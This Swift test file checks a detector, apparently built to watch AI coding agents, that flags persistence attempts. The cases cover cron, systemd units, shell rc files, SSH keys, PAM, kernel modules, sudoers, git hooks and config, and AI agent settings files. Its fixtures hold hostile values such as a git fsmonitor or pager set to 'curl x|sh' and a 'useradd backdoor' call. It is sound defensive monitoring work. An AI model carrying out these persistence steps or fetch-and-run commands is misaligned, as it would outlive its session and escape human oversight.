import XCTest
@testable import TetherCore

/// Persistence rules: each with rows that must fire and rows that must not.
final class PersistRuleTests: XCTestCase {
    func testCron() {
        check("persist.cron", fire: [
            R("drop a file in /etc/cron.d", E.write("/etc/cron.d/backdoor")),
            R("a logrotate script (postrotate runs as root)", E.write("/etc/logrotate.d/app")),
            R("append to /etc/crontab", E.open("/etc/crontab", "wa")),
            R("refused write is still an attempt", E.write("/etc/cron.d/x", result: -13)),
            R("user spool (Debian)", E.write("/var/spool/cron/crontabs/dev")),
            R("rename into cron.daily", E.rename("/tmp/x", "/etc/cron.daily/update")),
            R("crontab installs a file", E.exec("/usr/bin/crontab", ["crontab", "/tmp/tab"])),
            R("crontab -e", E.exec("/usr/bin/crontab", ["crontab", "-e"])),
            R("opened through io_uring", { var e = E.write("/etc/cron.d/x"); e.syscall = 0x4000_0012; return e }()),
        ], quiet: [
            R("crontab -l lists", E.exec("/usr/bin/crontab", ["crontab", "-l"])),
            R("reading /etc/crontab", E.open("/etc/crontab")),
            R("a file named crontab in the workspace", E.write("/home/dev/proj/deploy/crontab")),
            R("at spool is persist.at", E.write("/var/spool/cron/atjobs/a0001")),
        ])
    }

    func testAt() {
        check("persist.at", fire: [
            R("at job", E.exec("/usr/bin/at", ["at", "now", "+", "1", "minute"])),
            R("batch", E.exec("/usr/bin/batch", ["batch"])),
            R("at spool write", E.write("/var/spool/cron/atjobs/a0001")),
            R("RHEL at spool", E.write("/var/spool/at/a0002")),
        ], quiet: [
            R("at -l is atq", E.exec("/usr/bin/at", ["at", "-l"])),
            R("atq", E.exec("/usr/bin/atq", ["atq"])),
            R("a command named 'attr'", E.exec("/usr/bin/attr", ["attr", "-l", "x"])),
        ])
    }

    func testSystemd() {
        check("persist.systemd", fire: [
            R("system unit", E.write("/etc/systemd/system/evil.service")),
            R("drop-in", E.write("/etc/systemd/system/ssh.service.d/override.conf")),
            R("user unit", E.write("/home/dev/.config/systemd/user/agent.service")),
            R("another user's timer", E.write("/home/bob/.config/systemd/user/x.timer")),
            R("wants symlink", E.symlink("/etc/systemd/system/multi-user.target.wants/evil.service", to: "/etc/systemd/system/evil.service")),
            R("systemctl enable", E.exec("/usr/bin/systemctl", ["systemctl", "enable", "--now", "evil.service"])),
            R("systemctl --user link", E.exec("/usr/bin/systemctl", ["systemctl", "--user", "link", "/tmp/x.service"])),
            R("systemd-run", E.exec("/usr/bin/systemd-run", ["systemd-run", "--user", "--on-calendar=hourly", "/tmp/x"])),
            R("loginctl enable-linger", E.exec("/usr/bin/loginctl", ["loginctl", "enable-linger", "dev"])),
            R("a user unit under the agent's HOME elsewhere", E.exec("/usr/bin/bash", ["bash"], env: ["HOME=/srv/agent"]),
              E.write("/srv/agent/.config/systemd/user/agent.service")),
            R("a user unit under XDG_CONFIG_HOME", E.exec("/usr/bin/bash", ["bash"], env: ["HOME=/srv/agent", "XDG_CONFIG_HOME=/srv/cfg"]),
              E.write("/srv/cfg/systemd/user/agent.service")),
        ], quiet: [
            R("a unit file in a directory only named like XDG_CONFIG_HOME's", E.exec("/usr/bin/bash", ["bash"], env: ["XDG_CONFIG_HOME=/srv/cfg"]),
              E.write("/srv/cfgx/systemd/user/agent.service")),
            R("systemctl status", E.exec("/usr/bin/systemctl", ["systemctl", "status", "nginx"])),
            R("systemctl list-units", E.exec("/usr/bin/systemctl", ["systemctl", "list-units"])),
            R("reading a unit", E.open("/lib/systemd/system/ssh.service")),
            R("a .service file in the workspace", E.write("/home/dev/proj/deploy/app.service")),
            R("masking is tamper, not persistence", E.symlink("/etc/systemd/system/auditd.service", to: "/dev/null")),
        ])
    }

    func testInitScripts() {
        check("persist.init_scripts", fire: [
            R("init.d script", E.write("/etc/init.d/evil")),
            R("rc.local", E.open("/etc/rc.local", "wa")),
            R("runlevel link", E.symlink("/etc/rc2.d/S99evil", to: "../init.d/evil")),
            R("update-rc.d defaults", E.exec("/usr/sbin/update-rc.d", ["update-rc.d", "evil", "defaults"])),
            R("NetworkManager dispatcher script", E.write("/etc/NetworkManager/dispatcher.d/99-evil")),
            R("ifupdown hook", E.write("/etc/network/if-up.d/evil")),
            R("dhclient exit hook", E.write("/etc/dhcp/dhclient-exit-hooks.d/evil")),
        ], quiet: [
            R("NetworkManager connection read", E.open("/etc/NetworkManager/NetworkManager.conf")),
            R("reading an init script", E.open("/etc/init.d/ssh")),
            R("update-rc.d remove is not persistence", E.exec("/usr/sbin/update-rc.d", ["update-rc.d", "evil", "remove"])),
        ])
    }

    func testEditorStartup() {
        check("persist.editor_startup", fire: [
            R(".vimrc", E.open("/home/dev/.vimrc", "wca")),
            R("a vim plugin", E.write("/home/dev/.vim/plugin/evil.vim")),
            R("neovim init", E.write("/home/dev/.config/nvim/init.lua")),
            R("emacs init", E.write("/home/dev/.emacs.d/init.el")),
            R("system vimrc.local", E.write("/etc/vim/vimrc.local")),
        ], quiet: [
            R("viminfo is vim's state", E.write("/home/dev/.viminfo")),
            R("reading .vimrc", E.open("/home/dev/.vimrc")),
            R("a project's .vimrc in the workspace", E.write("/home/dev/proj/.vimrc")),
        ])
    }

    func testShellStartup() {
        check("persist.shell_startup", fire: [
            R("own .bashrc", E.open("/home/dev/.bashrc", "wa")),
            R("another user's .zshrc", E.write("/home/bob/.zshrc")),
            R("root's .profile", E.write("/root/.profile")),
            R("profile.d", E.write("/etc/profile.d/zz.sh")),
            R("fish conf.d", E.write("/home/dev/.config/fish/conf.d/x.fish")),
            R("a file .bashrc sources", E.write("/home/dev/.bash_aliases")),
            R(".bashrc under the agent's HOME elsewhere (a sandbox, a CI runner)", E.exec("/usr/bin/bash", ["bash"], env: ["HOME=/srv/agent"]),
              E.open("/srv/agent/.bashrc", "wa")),
            R(".zshrc under ZDOTDIR", E.exec("/usr/bin/bash", ["bash"], env: ["ZDOTDIR=/srv/zsh"]), E.write("/srv/zsh/.zshrc")),
            R("HOME learned from any member, not only the root", E.fork(100, 300),
              E.exec("/usr/bin/sh", ["sh", "-c", "x"], pid: 300, env: ["HOME=/tmp/h"]), E.write("/tmp/h/.profile", pid: 300)),
            R("cargo's env, sourced by .profile", E.write("/home/dev/.cargo/env")),
            R("nvm's init, sourced by .bashrc", E.write("/home/dev/.nvm/nvm.sh")),
            R("/etc/environment", E.write("/etc/environment")),
            R("rename over .bash_profile", E.rename("/home/dev/.bash_profile.tmp", "/home/dev/.bash_profile")),
            R("attempt refused", E.write("/etc/bash.bashrc", result: -13)),
        ], quiet: [
            R("reading .bashrc", E.open("/home/dev/.bashrc")),
            R(".bashrc inside the project", E.write("/home/dev/proj/.bashrc")),
            R("dotfiles repo in the workspace", E.write("/home/dev/proj/dotfiles/.zshrc")),
            R("bash history is not startup", E.open("/home/dev/.bash_history", "wa")),
        ])
    }

    func testSSH() {
        check("persist.ssh", fire: [
            R("own authorized_keys", E.open("/home/dev/.ssh/authorized_keys", "wca")),
            R("root's authorized_keys", E.write("/root/.ssh/authorized_keys")),
            R("another user's authorized_keys2", E.write("/home/bob/.ssh/authorized_keys2")),
            R("sshd_config", E.write("/etc/ssh/sshd_config")),
            R("sshd drop-in", E.write("/etc/ssh/sshd_config.d/10-evil.conf")),
            R("ssh client config (ProxyCommand)", E.open("/home/dev/.ssh/config", "wca")),
            R("system-wide ssh client config", E.write("/etc/ssh/ssh_config.d/90-proxy.conf")),
        ], quiet: [
            R("reading the ssh client config", E.open("/home/dev/.ssh/config")),
            R("known_hosts from ssh-keyscan", E.open("/home/dev/.ssh/known_hosts", "wca")),
            R("reading authorized_keys", E.open("/home/dev/.ssh/authorized_keys")),
            R("test fixture in the workspace", E.write("/home/dev/proj/tests/authorized_keys")),
        ])
    }

    func testLdPreload() {
        check("persist.ld_preload", fire: [
            R("ld.so.preload", E.write("/etc/ld.so.preload")),
            R("ld.so.conf.d", E.write("/etc/ld.so.conf.d/evil.conf")),
        ], quiet: [
            R("reading ld.so.preload (every process does)", E.open("/etc/ld.so.preload", result: -2)),
            R("reading ld.so.cache", E.open("/etc/ld.so.cache")),
        ])
    }

    func testXdgAutostart() {
        check("persist.xdg_autostart", fire: [
            R("user autostart", E.write("/home/dev/.config/autostart/x.desktop")),
            R("system autostart", E.write("/etc/xdg/autostart/x.desktop")),
            R("autostart under XDG_CONFIG_HOME", E.exec("/usr/bin/bash", ["bash"], env: ["XDG_CONFIG_HOME=/srv/cfg"]),
              E.write("/srv/cfg/autostart/x.desktop")),
        ], quiet: [
            R("a .desktop file in the workspace", E.write("/home/dev/proj/x.desktop")),
            R("reading autostart", E.open("/etc/xdg/autostart/x.desktop")),
        ])
    }

    func testAgentConfig() {
        check("persist.agent_config", fire: [
            R("Claude Code hooks in the user's settings", E.write("/home/dev/.claude/settings.json")),
            R("settings moved into place", E.rename("/tmp/s", "/home/dev/.claude/settings.local.json")),
            R("a hook script", E.write("/home/dev/.claude/hooks/on-stop.sh")),
            R("Codex's notify command / MCP servers", E.write("/home/dev/.codex/config.toml")),
            R("Gemini CLI's MCP servers", E.write("/home/dev/.gemini/settings.json")),
            R("Cursor's MCP servers", E.write("/home/dev/.cursor/mcp.json")),
            R("aider's lint/test commands", E.write("/home/dev/.aider.conf.yml")),
            R("managed settings for every user", E.write("/etc/claude-code/managed-settings.json")),
        ], quiet: [
            R("the project's own settings, in the workspace", E.write("/home/dev/proj/.claude/settings.json")),
            R("Claude Code's session history", E.write("/home/dev/.claude/projects/proj/1234.jsonl")),
            R("Claude Code's state file (rewritten at every start)", E.write("/home/dev/.claude.json")),
            R("reading the settings", E.open("/home/dev/.claude/settings.json")),
            R("Codex's session log", E.write("/home/dev/.codex/sessions/2026/x.jsonl")),
        ])
    }

    func testUdev() {
        check("persist.udev", fire: [
            R("udev rule", E.write("/etc/udev/rules.d/99-x.rules")),
            R("vendor udev rule", E.rename("/tmp/r", "/usr/lib/udev/rules.d/99-x.rules")),
        ], quiet: [
            R("reading rules", E.open("/usr/lib/udev/rules.d/50-udev-default.rules")),
        ])
    }

    func testMotdAndPackageHooks() {
        check("persist.motd", fire: [
            R("motd script", E.write("/etc/update-motd.d/99-x")),
        ], quiet: [
            R("reading motd", E.open("/etc/update-motd.d/00-header")),
        ])
        check("persist.package_hooks", fire: [
            R("apt hook", E.write("/etc/apt/apt.conf.d/99hook")),
            R("dpkg config", E.write("/etc/dpkg/dpkg.cfg.d/x")),
            R("pacman hook", E.write("/etc/pacman.d/hooks/x.hook")),
        ], quiet: [
            R("apt reads its config", E.open("/etc/apt/apt.conf.d/70debconf")),
            R("apt.conf in the workspace", E.write("/home/dev/proj/docker/apt.conf")),
        ])
    }

    func testPythonStartup() {
        check("persist.python_startup", fire: [
            R(".pth in user site-packages", E.write("/home/dev/.local/lib/python3.11/site-packages/evil.pth")),
            R(".pth in system dist-packages", E.write("/usr/lib/python3/dist-packages/zz.pth")),
            R("sitecustomize in /usr/local", E.write("/usr/local/lib/python3.11/sitecustomize.py")),
            R("usercustomize", E.write("/home/dev/.local/lib/python3.11/site-packages/usercustomize.py")),
            R("IPython startup script", E.write("/home/dev/.ipython/profile_default/startup/00-evil.py")),
            R("IPython config", E.write("/home/dev/.ipython/profile_default/ipython_config.py")),
            R("Jupyter server config", E.write("/home/dev/.jupyter/jupyter_server_config.py")),
            R("usercustomize in the user site of a HOME inside a writable root", E.exec("/usr/bin/bash", ["bash"], env: ["HOME=/tmp/agent"]),
              E.write("/tmp/agent/.local/lib/python3.11/site-packages/usercustomize.py")),
        ], quiet: [
            R("IPython history is no startup file", E.write("/home/dev/.ipython/profile_default/history.sqlite")),
            R("a notebook's own .py in the workspace", E.write("/home/dev/proj/.ipython/profile_default/startup/x.py")),
            R("venv in the workspace", E.write("/home/dev/proj/.venv/lib/python3.11/site-packages/_virtualenv.pth")),
            R("poetry venv in the cache", E.write("/home/dev/.cache/pypoetry/virtualenvs/p-1/lib/python3.11/site-packages/p.pth")),
            R("venv in /tmp", E.write("/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth")),
            R("a .pth that is not in a site dir", E.write("/home/dev/notes.pth")),
            R("reading site-packages .pth", E.open("/usr/lib/python3/dist-packages/zope.interface-5.5.2-nspkg.pth")),
        ])
    }

    func testAccountsAndSudoers() {
        check("persist.accounts", fire: [
            R("write /etc/passwd", E.open("/etc/passwd", "wa", result: -13)),
            R("shadow replaced by rename", E.rename("/etc/nshadow", "/etc/shadow")),
            R("useradd", E.exec("/usr/sbin/useradd", ["useradd", "-m", "backdoor"])),
            R("usermod -aG sudo", E.exec("/usr/sbin/usermod", ["usermod", "-aG", "sudo", "dev"])),
            R("passwd", E.exec("/usr/bin/passwd", ["passwd", "dev"])),
        ], quiet: [
            R("reading /etc/passwd (getpwuid)", E.open("/etc/passwd")),
            R("reading /etc/group", E.open("/etc/group")),
            R("passwd -S", E.exec("/usr/bin/passwd", ["passwd", "-S", "dev"])),
            R("id", E.exec("/usr/bin/id", ["id", "-u"])),
            R("a failed exec of the passwd file is not the passwd tool", E.exec("/etc/passwd", ["/etc/passwd"], result: -13)),
        ])
        check("persist.sudoers", fire: [
            R("sudoers.d file", E.write("/etc/sudoers.d/dev")),
            R("sudoers", E.open("/etc/sudoers", "wa", result: -13)),
            R("polkit rule", E.write("/etc/polkit-1/rules.d/49-x.rules")),
            R("visudo", E.exec("/usr/sbin/visudo", ["visudo"])),
        ], quiet: [
            R("visudo -c checks", E.exec("/usr/sbin/visudo", ["visudo", "-c"])),
            R("reading sudo.conf (sudo does)", E.open("/etc/sudo.conf")),
        ])
    }

    func testPAM() {
        check("persist.pam", fire: [
            R("pam.d", E.write("/etc/pam.d/sshd")),
            R("module", E.write("/lib/x86_64-linux-gnu/security/pam_evil.so")),
        ], quiet: [
            R("reading pam.d", E.open("/etc/pam.d/common-auth")),
            R("PAM config copy in the workspace", E.write("/home/dev/proj/etc/pam.d/sshd")),
        ])
    }

    func testKernelModules() {
        check("persist.kernel_modules", fire: [
            R("modules-load.d", E.write("/etc/modules-load.d/evil.conf")),
            R("modprobe.d", E.write("/etc/modprobe.d/evil.conf")),
            R("a .ko in /lib/modules", E.write("/lib/modules/6.1.0/extra/evil.ko")),
            R("insmod", E.exec("/usr/sbin/insmod", ["insmod", "/tmp/evil.ko"])),
            R("modprobe", E.exec("/usr/sbin/modprobe", ["modprobe", "evil"])),
        ], quiet: [
            R("modprobe -n dry run", E.exec("/usr/sbin/modprobe", ["modprobe", "-n", "-v", "x"])),
            R("lsmod", E.exec("/usr/sbin/lsmod", ["lsmod"])),
            R("reading modules.dep", E.open("/lib/modules/6.1.0/modules.dep")),
        ])
    }

    func testPathBinary() {
        check("persist.path_binary", fire: [
            R("/usr/local/bin", E.write("/usr/local/bin/git", mode: 0o755)),
            R("~/.local/bin", E.write("/home/dev/.local/bin/ls", mode: 0o755)),
            R("~/bin symlink", E.symlink("/home/dev/bin/python", to: "/tmp/x")),
            R("rename into /usr/bin", E.rename("/tmp/x", "/usr/bin/sudo")),
            R("chmod +x in /usr/local/sbin", E.chmod("/usr/local/sbin/x", 0o755)),
        ], quiet: [
            R("a bin/ dir in the workspace", E.write("/home/dev/proj/bin/tool", mode: 0o755)),
            R("node_modules/.bin", E.symlink("/home/dev/proj/node_modules/.bin/tsc", to: "../typescript/bin/tsc")),
            R("venv bin in the workspace", E.write("/home/dev/proj/.venv/bin/pytest", mode: 0o755)),
            R("reading /usr/bin/git", E.open("/usr/bin/git")),
            R("subdirectory of a PATH dir", E.write("/home/dev/.local/bin/sub/x")),
        ])
    }

    func testGitConfig() {
        func gitConfig(_ args: [String], _ file: String, pid: Int32 = 300) -> [Event] {
            [E.exec("/usr/bin/git", ["git", "config"] + args, pid: pid, owner: 0, mode: 0o100755),
             E.rename(file + ".lock", file, pid: pid)]
        }
        check("persist.git_config", fire: [
            Row("core.fsmonitor in the user's config: runs at every git status", gitConfig(["--global", "core.fsmonitor", "curl x|sh"], "/home/dev/.gitconfig")),
            Row("a shell alias", gitConfig(["--global", "alias.st", "!sh -c 'curl x|sh'"], "/home/dev/.gitconfig")),
            Row("git's own options first", [
                E.exec("/usr/bin/git", ["git", "-C", "/home/dev", "-c", "x.y=z", "config", "--global", "core.fsmonitor", "x"], pid: 304, owner: 0, mode: 0o100755),
                E.rename("/home/dev/.gitconfig.lock", "/home/dev/.gitconfig", pid: 304)]),
            Row("include.path pulls in more", gitConfig(["--global", "include.path", "/tmp/x.inc"], "/home/dev/.gitconfig")),
            Row("a pager that is a shell command", gitConfig(["--global", "core.pager", "sh -c 'curl x|sh; less'"], "/home/dev/.gitconfig")),
            Row("git config set (2.46 syntax), system-wide", gitConfig(["set", "--system", "core.sshCommand", "ssh -o ProxyCommand=x"], "/etc/gitconfig")),
            Row("a filter driver in another repository", gitConfig(["filter.x.clean", "sh -c x"], "/home/dev/other/.git/config")),
            Row("XDG git config written by hand", [E.open("/home/dev/.config/git/config", "wa")]),
            Row("the user's .gitconfig written by a copy named git", [
                E.exec("/home/dev/proj/git", ["git", "config", "--global", "user.name", "x"], pid: 301), E.open("/home/dev/.gitconfig", "wa", pid: 301)]),
        ], quiet: [
            Row("user.email, the agent's own identity", gitConfig(["--global", "user.email", "agent@example.com"], "/home/dev/.gitconfig")),
            Row("a plain pager", gitConfig(["--global", "core.pager", "less -R"], "/home/dev/.gitconfig")),
            Row("the workspace repository's remote", gitConfig(["remote.origin.url", "https://example.com/x.git"], "/home/dev/proj/.git/config")),
            Row("git clone writes its repository's config", [
                E.exec("/usr/bin/git", ["git", "clone", "https://example.com/x.git"], pid: 302), E.rename("/home/dev/proj/x/.git/config.lock", "/home/dev/proj/x/.git/config", pid: 302)]),
            Row("a workspace repository's config edited by hand", [E.open("/home/dev/proj/.git/config", "wa")]),
            Row("reading the user's config", [E.open("/home/dev/.gitconfig")]),
            Row("core.hooksPath is persist.git_hooks'", gitConfig(["--global", "core.hooksPath", "/tmp/h"], "/home/dev/.gitconfig")),
            Row("a remote named config (not the config subcommand)", [
                E.exec("/usr/bin/git", ["git", "remote", "add", "config", "core.fsmonitor"], pid: 303, owner: 0, mode: 0o100755),
                E.rename("/home/dev/proj/.git/config.lock", "/home/dev/proj/.git/config", pid: 303)]),
        ])
        // the workspace's own repository: reported low (the person's next git there runs it)
        let s = Row("fsmonitor in the workspace repo", gitConfig(["core.fsmonitor", "curl x|sh"], "/home/dev/proj/.git/config")).run()
        XCTAssertEqual(s.findings.first { $0.rule == "persist.git_config" }?.severity, .low)
    }

    func testGitHooks() {
        check("persist.git_hooks", fire: [
            R("hook in another repository", E.write("/home/dev/other/.git/hooks/pre-commit", mode: 0o755)),
            R("bare repository hook", E.write("/srv/git/app.git/hooks/post-receive")),
            R("enabling a sample by rename", E.rename("/home/dev/other/.git/hooks/pre-push.sample", "/home/dev/other/.git/hooks/pre-push")),
            R("template hook for every new repository", E.write("/usr/share/git-core/templates/hooks/post-checkout")),
            R("global hooksPath", E.exec("/usr/bin/git", ["git", "config", "--global", "core.hooksPath", "/tmp/h"])),
        ], quiet: [
            R("git clone writes samples", E.write("/home/dev/proj/.git/hooks/pre-commit.sample")),
            R("husky sets a local hooksPath", E.exec("/usr/bin/git", ["git", "config", "core.hooksPath", ".husky/_"])),
            R("ordinary git config", E.exec("/usr/bin/git", ["git", "config", "user.name", "x"])),
            R("git writes its index", E.write("/home/dev/proj/.git/index.lock")),
        ])
        // Inside the workspace: reported, but as low / alert.
        let s = Row("workspace hook", [E.write("/home/dev/proj/.git/hooks/pre-commit", mode: 0o755)]).run()
        let f = s.findings.first { $0.rule == "persist.git_hooks" }
        XCTAssertEqual(f?.severity, .low)
        XCTAssertEqual(f?.action, .alert)
    }

    /// Homes past the host's bound are counted once each, however often a member is
    /// exec'd with one again (each exec merges its session's homes anew).
    func testLearnedHomesPastTheBoundAreCountedOnce() {
        let learned = LearnedHomes()
        learned.merge((0..<LearnedHomes.limit).map { (path: "/srv/h\($0)", under: "/") })
        let gen = learned.generation
        for _ in 0..<3 { learned.merge([(path: "/srv/late1", under: "/"), (path: "/srv/late2", under: "/"), (path: "/srv/h0", under: "/")]) }
        let snap = learned.snapshot()
        XCTAssertEqual(snap.homes.count, LearnedHomes.limit)
        XCTAssertEqual(snap.dropped, 2, "two homes were not guarded")
        XCTAssertEqual(snap.generation, gen, "nothing was added past the bound")
    }

    /// An io_uring request's record has no outcome: the finding says it was submitted, not
    /// that it succeeded or failed.
    func testAnIoUringRequestSaysItsOutcomeIsNotSeen() {
        var e = E.write("/etc/cron.d/x")
        e.syscall = 0x4000_0012 // TE_SYSCALL_URING | IORING_OP_OPENAT
        XCTAssertEqual(e.ioUringOp, 18)
        let f = Row("io_uring", [e]).run().findings.first { $0.rule == "persist.cron" }
        XCTAssertTrue(f?.message.contains("through io_uring, IORING_OP_OPENAT, read at submission: its outcome is not seen") == true, f?.message ?? "none")
        XCTAssertNil(E.write("/etc/cron.d/x").ioUringOp)
    }
}
